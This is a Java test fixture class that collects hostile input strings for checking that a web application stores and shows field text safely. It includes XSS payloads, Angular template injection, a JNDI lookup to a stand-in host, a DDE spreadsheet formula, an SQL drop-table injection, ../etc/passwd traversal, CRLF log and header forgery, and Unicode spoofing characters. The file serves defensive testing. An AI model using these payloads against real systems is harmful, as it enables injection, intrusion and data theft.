package vn.dusinhhoat.testing;

import java.text.Normalizer;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;

/**
 * What somebody may write into a field to make it more than a text (rows C9, C11, C12, C14), by what it tries. Marked
 * scripts set {@code window.dshHostile}.
 */
public final class HostileText {

    /** What a script that ran leaves in the page. */
    public static final String MARKER = "dshHostile";
    /** Host that must never be asked for anything. */
    public static final String OUTSIDE = "ke-xau.invalid";

    public static final String IMAGE = "<img src=x onerror=\"window.dshHostile=1\">";
    public static final String SCRIPT = "<script>window.dshHostile=2</script>";
    public static final String ATTRIBUTE = "\"><svg onload=window.dshHostile=3>";
    public static final String REMOTE = "<img src=//" + OUTSIDE + "/x.png>";
    public static final String ANGULAR = "{{constructor.constructor('window.dshHostile=4')()}}";
    public static final String TEMPLATE = "{{7*7}}";
    public static final String LINK = "javascript:window.dshHostile=5";
    public static final String EXPRESSION = "${1+1} #{execution.processEngineServices}";
    public static final String JNDI = "${jndi:ldap://" + OUTSIDE + "/a}";
    public static final String FORMULA = "=cmd|' /C calc'!A0";
    public static final String SQL = "'); drop table visit; --";
    public static final String PATH = "../../etc/passwd";
    /** A false entry of a log, a header of a mail or an answer. */
    public static final String BREAKS = "Hết\r\nSet-Cookie: x=1\r\n2026-01-01T00:00:00.000+07:00 ERROR 1 --- [main] gia.mao : bịa";
    public static final String REVERSED = "hoa\u202Efdp.exe";
    public static final String HIDDEN = "Kim\u200B\u2060Liên\uFEFF";
    public static final String CONTROLS = "a\u0007\u001B[31mb\u0085c";
    public static final String DECOMPOSED = Normalizer.normalize("Đề nghị sửa đường Trưng Nữ Vương", Normalizer.Form.NFD);
    public static final String NUL = "trước\u0000sau";
    public static final String HALF = "nửa \uD83D chữ";
    public static final String LONG = "Ộ".repeat(5_000);
    public static final String VERY_LONG = "Ộ".repeat(200_000);
    public static final String INVISIBLE = "\u200B\u00AD\u202E \u0007";

    /** Fits where forty letters fit. */
    public static final String SHORT = IMAGE.substring(0, 12) + TEMPLATE + "\u202E\u0007=1+1" + Normalizer.normalize("Ộ", Normalizer.Form.NFD);

    private HostileText() {
    }

    /** Texts that are stored and shown as they are, apart from what cannot be seen; none longer than 120. */
    public static Map<String, String> shownAsTyped() {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("image", IMAGE);
        texts.put("script", SCRIPT);
        texts.put("attribute", ATTRIBUTE);
        texts.put("remote image", REMOTE);
        texts.put("Angular", ANGULAR);
        texts.put("template", TEMPLATE);
        texts.put("link", LINK);
        texts.put("expression", EXPRESSION);
        texts.put("look-up", JNDI);
        texts.put("formula", FORMULA);
        texts.put("plus", "+1+1");
        texts.put("minus", "-1+1");
        texts.put("at", "@SUM(1)");
        texts.put("tab", "\t=1+1");
        texts.put("return", "\r=1+1");
        texts.put("SQL", SQL);
        texts.put("path", PATH);
        texts.put("line breaks", BREAKS);
        texts.put("reversed", REVERSED);
        texts.put("hidden", HIDDEN);
        texts.put("controls", CONTROLS);
        texts.put("decomposed", DECOMPOSED);
        return texts;
    }

    /** Texts that no person sends. */
    public static Stream<String> broken() {
        return Stream.of(NUL, HALF);
    }

    /** Those with which people would be shown something else than was typed, if anything took them for more than text. */
    public static Stream<String> active() {
        return Stream.of(IMAGE, SCRIPT, ATTRIBUTE, REMOTE, ANGULAR, TEMPLATE, LINK, EXPRESSION, JNDI, FORMULA, "+1+1", "-1+1", "@SUM(1)",
                SQL, PATH);
    }
}
